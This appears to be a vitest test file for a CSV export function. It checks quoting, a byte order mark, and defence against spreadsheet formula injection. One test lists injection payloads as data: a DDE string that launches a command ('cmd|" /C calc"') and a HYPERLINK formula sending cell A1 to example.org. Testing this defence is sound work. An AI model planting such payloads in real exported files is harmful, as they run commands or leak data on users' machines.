import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvFile } from '../../../functions/platform/csv.ts';

const read = (text: string): string[][] => parse(text, { bom: true, relaxColumnCount: true });

it('writes RFC 4180 with a byte order mark', () => {
  expect(
    csvFile([
      ['a', 'b c', 'd,e'],
      ['say "f"', 'two\nlines', ''],
    ]),
  ).toBe('\uFEFFa,b c,"d,e"\r\n"say ""f""","two\nlines",\r\n');
});

it('fault 26: a cell that a spreadsheet would run is text', () => {
  const attacks = [
    '=1+1',
    '+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u200b=1+1',
    '\u00a0=1+1',
    '\uff1d1+1',
    '=HYPERLINK("http://example.org/?"&A1,"more")',
  ];
  const [row = []] = read(csvFile([attacks]));
  expect(row).toEqual(attacks.map((attack) => `'${attack}`));
  expect(csvFile([['-5', 'a-b', 'x=1']])).toBe(`\uFEFF"'-5",a-b,x=1\r\n`);
});

it('leaves our own numbers alone', () => {
  expect(csvFile([[-5, 0.25, 12]])).toBe('\uFEFF-5,0.25,12\r\n');
});

it('any text comes back as it was, or with one apostrophe before it', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (cells) => {
      const file = csvFile([['first', ...cells]]);
      const back = read(file)[0] ?? [];
      expect(back).toHaveLength(cells.length + 1);
      for (const [index, cell] of cells.entries()) expect([cell, `'${cell}`]).toContain(back[index + 1]);
      for (const cell of back) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@]/u);
    }),
  );
});
